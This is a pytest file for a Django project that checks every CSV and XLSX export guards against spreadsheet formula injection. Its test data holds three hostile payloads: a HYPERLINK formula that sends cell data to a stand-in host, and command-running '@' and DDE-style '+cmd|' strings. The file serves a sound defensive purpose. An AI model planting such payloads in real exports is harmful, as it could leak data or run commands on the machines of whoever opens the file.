"""No text a user typed is ever run as a formula by the spreadsheet that opens an export.

Every CSV and XLSX route of the project is fetched after names, titles, objects and
references of the demo were typed as formulas; a cell that starts with one is a
formula a spreadsheet would run (a link that sends the sheet's data away).
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from activity.models import Indicator
from config.core.idempotency import SUBMISSION_FIELD, new_token
from config.jobs.models import Run
from conventions.models import Payment
from tests.security.urls import ROUTES, build_url

pytestmark = pytest.mark.django_db

FORMULAS = (
    '=HYPERLINK("http://example.invalid/?"&A1,"Ouvrir")',
    "@SUM(1+1)*cmd",
    "+1+cmd|' /C calc'!A0",
)
# An import's template holds its columns and a fixed example: no text that anyone typed
# (the statistics' XLSX template, which names each indicator of the grid, is checked).
CODES_ONLY = {
    "activity:statistics_template_csv",
    "partners:template_csv",
    "partners:template_xlsx",
    "conventions:posts_template_csv",
    "conventions:posts_template_xlsx",
    "partners:team_template_csv",
    "partners:team_template_xlsx",
}
EXPORTS = sorted(
    label
    for label, route in ROUTES.items()
    if route.name.endswith(("_csv", "_xlsx")) and label not in CODES_ONLY
)


@pytest.fixture
def typed_as_formulas(demo):
    first, second, third = FORMULAS
    for side in (demo.niort, demo.ermont):
        side.post.name = first
        side.post.save()
        side.convention.title = second
        side.convention.save()
        side.deliberation.object = third
        side.deliberation.save()
        side.contribution.organisation.name = first
        side.contribution.organisation.save()
        side.contribution.source = second
        side.contribution.save()
    Payment.objects.update(reference=third)
    Indicator.objects.filter(pk=Indicator.objects.order_by("pk").first().pk).update(label=first)
    return demo


def cells(content_type: str, content: bytes) -> list[str]:
    if content_type.startswith("text/csv"):
        text = content.decode("utf-8-sig")
        # French exports use « ; », open-data files « , »; quotes are the standard ones
        # (sniffing the header line alone guesses them wrong, and a cell read with its
        # quotes would never start with « = »).
        header = text.splitlines()[0]
        delimiter = ";" if header.count(";") > header.count(",") else ","
        return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
    workbook = load_workbook(io.BytesIO(content))
    return [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows(values_only=True)
        for cell in row
        if isinstance(cell, str)
    ]


def test_every_export_of_the_project_is_listed():
    assert len(EXPORTS) >= 8, EXPORTS


# The country's steering report names départements and counts: nothing anyone typed (the
# département's report names its posts and is checked like the other exports).
# The public SCDL files hold published acts only (the fixture publishes none) and the
# subsidies of the organisation in the address: they are written by the same SCDL writers
# as « conventions:opendata_deliberations_csv » and « …_subsidies_csv », whose typed text is
# checked here; no formula may start any of their cells all the same.
NOTHING_TYPED = {"steering:national_xlsx", "public:deliberations_csv", "public:subsidies_csv"}

# An open-data file is one organisation's: the administrator names the publisher.
PUBLISHERS = {
    "conventions:opendata_deliberations_csv": lambda side: side.deliberation.organisation,
    "conventions:opendata_subsidies_csv": lambda side: side.contribution.organisation,
}


# The national bilan's file is made by a worker (activity.views.exports.export_national):
# asked for, then downloaded from its run.
MADE_BY_A_RUN = {"activity:export_csv[national]": "csv"}


def run_file(client, file_format):
    client.post(
        reverse("activity:export_national"),
        {"annee": 2025, "format": file_format, SUBMISSION_FIELD: new_token()},
    )
    run = Run.objects.get()
    response = client.get(reverse("runs:file", args=[run.public_id]))
    content = b"".join(response.streaming_content)
    return response.status_code, response["Content-Type"], content


@pytest.mark.parametrize("label", EXPORTS)
def test_no_export_writes_typed_text_as_a_formula(client, typed_as_formulas, label):
    client.force_login(typed_as_formulas.users["admin"])
    if label in MADE_BY_A_RUN:
        status, content_type, content = run_file(client, MADE_BY_A_RUN[label])
    else:
        url = build_url(typed_as_formulas, label, "niort")
        if label in PUBLISHERS:
            publisher = PUBLISHERS[label](typed_as_formulas.niort)
            url += ("&" if "?" in url else "?") + f"organisation={publisher.pk}"
        response = client.get(url)
        status, content_type = response.status_code, response["Content-Type"]
        content = response.content
    assert status == 200, label
    written = cells(content_type, content)
    # The typed text is in the file, kept as text.
    if label not in NOTHING_TYPED:
        assert [c for c in written if any(f[1:] in c for f in FORMULAS)], label
    assert not [c for c in written if c.startswith(("=", "@", "+"))], label
